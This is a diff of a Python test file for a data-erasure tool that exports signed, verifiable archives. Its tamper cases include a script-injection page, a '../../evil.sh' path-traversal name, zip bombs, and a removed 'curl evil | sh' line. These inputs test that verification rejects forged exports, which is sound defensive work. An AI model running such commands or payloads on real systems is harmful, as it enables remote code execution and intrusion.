@@ -7,10 +7,10 @@ import io
 import json
 import shutil
 import subprocess
-import sys
+import tracemalloc
 import zipfile
-from dataclasses import replace
 from datetime import date
+from pathlib import Path
 
 import pytest
 from fault_codes import fails
@@ -29,10 +29,8 @@ from requests_folder import (
 )
 
 from axolotl_unlearn.errors import UnlearnError
-from axolotl_unlearn.requests import erase as erasing
 from axolotl_unlearn.requests import verify as exporting
-from axolotl_unlearn.requests.erase import erase, plan
-from axolotl_unlearn.requests.record import amend, read, sign_file, told, write
+from axolotl_unlearn.requests.record import amend, read, sign_file, told, tried, write
 from axolotl_unlearn.requests.request import Ledger, Request, canonical
 from axolotl_unlearn.requests.verify import export, reply, verify, verify_export
 
@@ -44,16 +42,28 @@ GIVEN = {
 }
 
 
-@pytest.fixture
-def folder(tmp_path):
+def recorded(place: Path) -> Path:
     """Two subjects in one request, and another request before it."""
-    base = model_folder(tmp_path / "base")
-    before = {"model": str(base), "adapter": str(adapter_folder(tmp_path / "out", base))}
-    write(finished_request(tmp_path / "requests", "of-somebody-else", before))
-    folder = finished_request(tmp_path / "requests", "w48", before, documents=("ada", "bo"))
+    base = model_folder(place / "base")
+    before = {"model": str(base), "adapter": str(adapter_folder(place / "out", base))}
+    write(finished_request(place / "requests", "of-somebody-else", before))
+    folder = finished_request(place / "requests", "w48", before, documents=("ada", "bo"))
     write_json(folder / "subjects.json", {"T-17": ["ada"], "T-18": ["bo"]})
     write(folder)
     return folder
+
+
+@pytest.fixture
+def folder(tmp_path):
+    return recorded(tmp_path)
+
+
+@pytest.fixture(scope="module")
+def signed(tmp_path_factory, keys):  # noqa: F811
+    """The files of an export with a signature."""
+    place = tmp_path_factory.mktemp("signed")
+    export(recorded(place), place / "a.zip", **GIVEN, private_key=keys[0])
+    return opened(place / "a.zip")
 
 
 _DATES = dict.fromkeys(("received", "done", "due"), "2026-10-01")
@@ -103,6 +113,9 @@ ERASED = {"time": "2026-11-25T00:00:00+00:00", "removed": [], "kept": [], "left"
             "We did not look for 2 texts of a word or a short",
         ),
         (ERASED | {"places": 0, "unsearched": "3 weights"}, "We could not look into: 3 weights."),
+        # It said "we removed the model before" of one that `erase` had listed as kept.
+        (ERASED | {"model_before": False}, "The model before is not among them."),
+        (ERASED | {"model_before": True}, "The model before is among them."),
     ],
 )
 def test_the_letter_counts_every_place_and_claims_no_test_where_none_decided(folder, erased, says):
@@ -116,7 +129,8 @@ def test_the_letter_counts_every_place_and_claims_no_test_where_none_decided(fol
         written = reply(statement, handled)
         assert "We did so on 2026-10-01 (due by 2026-10-01)." in written
         assert says in written and "On 2026-11-26 we told Cloud Ltd." in written
-        assert "The model before is" not in written, "a record before v0.4 does not say it"
+        known = "model_before" in (erased or {})  # a record before v0.4 does not say it
+        assert ("The model before is" in written) is known
         assert ("none of our tests" in written) is (exact is None)
         assert ("training the model without them" in written) is (exact is not None)
         predicate["verdict"]["good"] = False
@@ -125,39 +139,6 @@ def test_the_letter_counts_every_place_and_claims_no_test_where_none_decided(fol
         assert "Our tests did not show that the model has forgotten these rows" in written
     del predicate["told"], predicate["erased"]  # as v0.1 may
     assert "has not been erased" in reply(statement, handled)
-
-
-def test_the_letter_claims_no_model_that_stays(folder, tmp_path, monkeypatch):
-    """It said "we removed the model before" of one that `erase` had listed as kept."""
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("HF_HOME", str(tmp_path))
-    for output, says in (("elsewhere", "is not among them"), ("old", "is among them")):
-        planned = plan(folder)
-        if output == "old":  # below the folder that the config writes to
-            planned.items = [replace(one, why=None) for one in planned.items]
-        erase(planned)
-        statement, handled = read(folder), dict.fromkeys(("to", "by", "reference"), "") | _DATES
-        assert f"The model before {says}." in reply(statement, handled)
-        assert statement["predicate"]["erased"]["model_before"] is (output == "old")
-
-
-def test_half_of_an_erasure_is_no_answer(folder, tmp_path, monkeypatch):
-    """The letter said of a model whose weights were gone that it had not been erased."""
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setenv("HF_HOME", str(tmp_path))
-
-    def killed(path):
-        raise KeyboardInterrupt
-
-    with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
-        patched.setattr(erasing, "remove", killed)
-        planned = plan(folder)
-        planned.items = [replace(one, why=None) for one in planned.items]
-        erase(planned)
-    with fails("requests.half-erased"):
-        export(folder, tmp_path / "a.zip")
-    erase(plan(folder))
-    export(folder, tmp_path / "a.zip")
 
 
 def test_who_was_told_and_when_it_was_erased_stand_in_the_record(folder):
@@ -274,20 +255,13 @@ FORGED = {
     "a key twice": _replaced("handling.json", b'"late":', b'"late":false,"late":'),
     "a time that is none": _statement(("predicate", "request", "created"), "x"),
     "an infinite loss": _replaced("record.json", b'"versions":{', b'"versions":{"a":1e999,'),
-    "handling is deep": _put("handling.json", b"[" * 100_000 + b"]" * 100_000),
     "letter": _put("REPLY.txt", b"We removed every copy. This deletion is lawful."),
-    "instructions": _put("VERIFY.txt", b"curl evil | sh"),
     "page": _put("REPORT.html", b"<script>alert(1)</script>"),
-    "page gone": _put("REPORT.html", None),
     "entries gone": _put("ledger-entries.jsonl", None),
-    "another page": _put("REPORT.htm", b"<script>alert(1)</script>"),
     "a place elsewhere": _put("../../evil.sh", b"x"),
     "record": _replaced("record.json", b"w48", b"w49"),
     "subject is a number": _statement(("subject",), 7),
-    "documents are a number": _statement(("predicate", "documents"), 7),
-    "no model": _statement(("predicate", "model"), None),
     "no request": _statement(("predicate", "request"), [1]),
-    "no predicate": _statement(("predicate",), None),
     "record is a list": _put("record.json", b"[]"),
     "record is deep": _put("record.json", b"[" * 100_000 + b"]" * 100_000),
     "another event": _replaced("ledger-entries.jsonl", b'"accepted"', b'"allerased"'),
@@ -295,28 +269,21 @@ FORGED = {
 }
 
 
-@pytest.mark.parametrize("signed", [True, False], ids=["old signature", "no signature"])
 @pytest.mark.parametrize("change", FORGED)
-def test_what_is_put_together_anew(folder, tmp_path, keys, change, signed):  # noqa: F811
+def test_what_is_put_together_anew(signed, tmp_path, keys, change):  # noqa: F811
     """Its manifest fits: with the owner's signature of another one beside it, or none."""
-    private, public, _ = keys
-    path = tmp_path / "a.zip"
-    export(folder, path, **GIVEN, private_key=private)
-    files = opened(path)
-    signature = files.pop("manifest.json.sig")
+    files, path = dict(signed), tmp_path / "a.zip"
+    signature = {"manifest.json.sig": files.pop("manifest.json.sig")}
     del files["manifest.json"]
     FORGED[change](files)
     files["manifest.json"] = exporting._manifest(files)
-    if signed:
-        files["manifest.json.sig"] = signature
-    path.write_bytes(exporting._archive(files))
-    codes = (2, 4) if signed else (2, 3)
-    done = said("verify", path, "--public-key", public, "--json", code=codes)
-    found = json.loads(done.stdout).get("signature")
-    assert found in (None, "other" if signed else "none")
-    lines = done.stderr.splitlines()
-    assert not any(line.startswith("signature: by the owner") for line in lines)
-    assert "\x1b" not in done.stderr and "\u202e" not in done.stderr
+    for beside, code, says in ((signature, 4, "other"), ({}, 3, "none")):
+        path.write_bytes(exporting._archive(files | beside))
+        done = said("verify", path, "--public-key", keys[1], "--json", code=(2, code))
+        assert json.loads(done.stdout).get("signature") in (None, says)
+        lines = done.stderr.splitlines()
+        assert not any(line.startswith("signature: by the owner") for line in lines)
+        assert "\x1b" not in done.stderr and "\u202e" not in done.stderr
 
 
 def _zip(how: int, files: dict[str, bytes]) -> bytes:
@@ -336,33 +303,23 @@ BOMBS = {
 }
 
 
-def test_sizes_are_bounded_before_anything_is_read(tmp_path):
+@pytest.mark.parametrize("name", BOMBS)
+def test_sizes_are_bounded_before_anything_is_read(tmp_path, name):
     """A file of 1.5 MB took 3.3 GB."""
-    for name, bomb in BOMBS.items():
-        (tmp_path / name).write_bytes(bomb())
-    code = (
-        "import pathlib, resource, sys\n"
-        "from axolotl_unlearn.requests.verify import verify_export\n"
-        "most = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
-        "for path in sys.argv[1:]:\n"
-        "    before = most()\n"
-        "    try:\n        verify_export(pathlib.Path(path))\n"
-        "    except ValueError as error:\n        print(error.code, most() - before)\n"
-    )
-    words = [sys.executable, "-c", code, *(tmp_path / name for name in BOMBS)]
-    done = subprocess.run(words, capture_output=True, text=True)
-    said = [line.split() for line in done.stdout.splitlines()]
-    assert [one for one, _ in said] == ["record.no-export"] * len(BOMBS), done.stderr
-    assert all(int(more) * 1024 < 4 * exporting.LARGEST for _, more in said)
+    (tmp_path / name).write_bytes(BOMBS[name]())
+    tracemalloc.start()
+    with fails("record.no-export"):
+        verify_export(tmp_path / name)
+    _, most = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert most < 4 * exporting.LARGEST
 
 
 @settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(data=st.data())
-def test_any_byte_changed_is_found(folder, tmp_path, data):
-    path = tmp_path / "a.zip"
-    path.unlink(missing_ok=True)
-    export(folder, path, **GIVEN)
-    raw = bytearray(path.read_bytes())
+def test_any_byte_changed_is_found(signed, tmp_path, data):
+    path, whole = tmp_path / "a.zip", exporting._archive(signed)
+    raw = bytearray(whole)
     place = data.draw(st.integers(0, len(raw) - 1))
     change = data.draw(st.sampled_from(["replace", "remove", "add"]))
     if change == "remove":
@@ -371,18 +328,18 @@ def test_any_byte_changed_is_found(folder, tmp_path, data):
         raw.insert(place, data.draw(st.integers(0, 255)))
     else:
         raw[place] = data.draw(st.integers(0, 255).filter(lambda byte: byte != raw[place]))
-    if bytes(raw) == path.read_bytes():
+    if bytes(raw) == whole:
         return  # a byte beside its like
     path.write_bytes(raw)
     with pytest.raises(UnlearnError):
         verify_export(path).require()
 
 
-@pytest.mark.parametrize("part", ["to", "by", "reference"])
 @pytest.mark.parametrize("text", ["a\nb", "\x1b[31m", "a\u202eb", "a\u2028b", "\x00"])
-def test_fields_are_one_line_of_plain_text(folder, tmp_path, part, text):
-    with fails("requests.control-character"):
-        export(folder, tmp_path / "a.zip", **{part: text})
+def test_fields_are_one_line_of_plain_text(tmp_path, text):
+    for part in ("to", "by", "reference"):
+        with fails("requests.control-character"):
+            export(tmp_path, tmp_path / "a.zip", **{part: text})
 
 
 def test_the_commands_and_the_signature(folder, tmp_path, keys):  # noqa: F811
@@ -423,8 +380,6 @@ def test_an_export_that_was_kept_finds_an_older_ledger(folder, tmp_path):
 def test_every_try_has_an_entry_and_stands_in_the_record(tmp_path):
     """The best of how many: refused, not shown and shown ones, of other requests too; the same rows
     in another order had lost the tries of before."""
-    from axolotl_unlearn.requests.record import tried
-
     rows = [{"id": who, "dataset": 0, "row": {"text": SECRET}} for who in ("ada", "bo")]
     for name, outcome in (("1", "refused"), ("2", "not shown")):
         folder = finished_request(tmp_path / "requests", name, forget=rows[:: 3 - 2 * int(name)])
@@ -444,7 +399,7 @@ def test_every_try_has_an_entry_and_stands_in_the_record(tmp_path):
     verify(folder).require()
 
 
-@pytest.mark.parametrize("kind", ["ed25519", "RSA", "none", "text"])
+@pytest.mark.parametrize("kind", ["ed25519", "none", "text"])
 def test_a_key_that_cannot_sign_is_refused_with_the_line_that_makes_one(tmp_path, keys, kind):  # noqa: F811
     key, signed = tmp_path / "key.pem", tmp_path / "record.json"
     signed.write_text("{}")
